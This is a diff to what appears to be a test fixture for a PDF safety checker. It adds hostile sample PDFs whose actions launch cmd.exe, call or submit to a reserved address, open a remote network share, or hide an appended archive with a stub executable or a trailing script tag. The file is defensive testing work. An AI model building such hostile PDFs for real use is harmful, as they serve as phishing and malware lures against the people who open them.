@@ -43,6 +43,14 @@ def _script_deep_in_a_field(document: pikepdf.Pdf) -> None:
     document.pages[0].Annots = pikepdf.Array([document.make_indirect(field)])
 
 
+def _archive() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("a.exe", b"MZ")
+        archive.comment = b"%%EOF"
+    return out.getvalue()
+
+
 def _attached(document: pikepdf.Pdf) -> None:
     document.attachments["rechnung.exe"] = b"MZ"
 
@@ -145,6 +153,10 @@ def hostile() -> dict[str, tuple[str, Callable[[], bytes]]]:
         "pdf: starts a program": ("a.pdf", lambda: pdf_with(_action(S=launch, F="cmd.exe"))),
         "pdf: sends a form": ("a.pdf", lambda: pdf_with(_action(S=name.SubmitForm, F="http://192.0.2.1/"))),
         "pdf: opens an attachment": ("a.pdf", lambda: pdf_with(_action(S=name.GoToE, T=pikepdf.Dictionary()))),
+        "pdf: calls an address": ("a.pdf", lambda: pdf_with(_action(S=name.URI, URI="http://192.0.2.1/"))),
+        "pdf: opens a share": ("a.pdf", lambda: pdf_with(_action(S=name.GoToR, F=r"\\\\192.0.2.1\\a"))),
+        "pdf: another file behind it": ("a.pdf", lambda: pdf_with(lambda _document: None) + _archive()),
+        "pdf: page behind it": ("a.pdf", lambda: pdf_with(lambda _document: None) + b"\n<script>"),
         "pdf: attachment": ("a.pdf", lambda: pdf_with(_attached)),
         "pdf: film": ("a.pdf", lambda: pdf_with(_film)),
         "pdf: form with program": ("a.pdf", lambda: pdf_with(_xfa)),
